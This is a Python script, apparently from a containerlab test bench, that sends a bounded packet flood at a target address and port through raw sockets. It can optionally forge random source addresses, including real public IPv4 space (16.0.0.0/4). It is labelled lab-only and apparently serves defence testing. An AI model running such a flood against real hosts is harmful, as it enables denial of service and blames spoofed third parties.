"""A bounded flood, from random sources or from one: attack_flood.py KIND ADDRESS PORT PPS SECONDS [spoofed].

KIND is one of containerlab/nodes/flood.py, which makes the packets; IPv4 and IPv6. Tells on standard output, as JSON
lines, when it began (monotonic) and how many it sent. The namespace must let strange sources out. For the lab only;
standard library only.
"""

from __future__ import annotations

import importlib.util
import json
import socket
import sys
import time
from collections.abc import Iterator
from ipaddress import ip_address, ip_network
from itertools import cycle, islice
from pathlib import Path
from random import Random

PACKETS = Path(__file__).parents[2] / "containerlab" / "nodes" / "flood.py"
BURST_S = 0.01
FRESH_PPS, DISTINCT = 5000, 4096
"""A faster flood sends the same packets again and again: making one takes longer than to send it."""
ANYWHERE = {4: ip_network("16.0.0.0/4"), 6: ip_network("2001:db8:ffff::/48")}
"""Where made-up sources are: not those of `flood.py`, some of which are addresses of the bench."""
ONE = {4: ip_network("10.9.0.0/30"), 6: ip_network("2001:db8:ffff::/126")}


def packets(kind: str, to: str, port: int, *, spoofed: bool) -> Iterator[bytes]:
    """Yield packets: each from an address of its own, or all from one."""
    spec = importlib.util.spec_from_file_location("flood_packets", PACKETS)
    assert spec is not None
    assert spec.loader is not None
    made = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(made)
    vars(made)["SOURCES"] = ANYWHERE if spoofed else ONE
    luck, address = Random(port), ip_address(to)
    while True:
        yield made.packet(kind, address, port, luck)


def flood(kind: str, to: str, port: int, pps: int, seconds: float, *, spoofed: bool) -> int:
    """Send so many a second for so long; return how many the kernel took."""
    fresh, sent, at = packets(kind, to, port, spoofed=spoofed), 0, 0
    if pps > FRESH_PPS:
        fresh = cycle(list(islice(fresh, DISTINCT)))
    family = socket.AF_INET6 if ip_address(to).version == 6 else socket.AF_INET
    with socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
        begun_s = time.monotonic()
        print(json.dumps({"kind": "begun", "at_s": begun_s}), flush=True)
        while (now_s := time.monotonic()) < begun_s + seconds:
            due = int((now_s - begun_s + BURST_S) * pps)
            # what a busy machine could not send in time is not sent at once later
            for _ in range(min(due - at, int(pps * BURST_S * 3))):
                try:
                    raw.sendto(next(fresh), (to, 0))
                    sent += 1
                except OSError:
                    time.sleep(0.0005)
            at = due
            time.sleep(max(0.0, begun_s + at / pps - time.monotonic()))
    return sent


if __name__ == "__main__":
    words = sys.argv[1:]
    number_sent = flood(
        words[0], words[1], int(words[2]), int(words[3]), float(words[4]), spoofed="spoofed" in words[5:]
    )
    print(json.dumps({"kind": "ended", "sent": number_sent, "at_s": time.monotonic()}), flush=True)
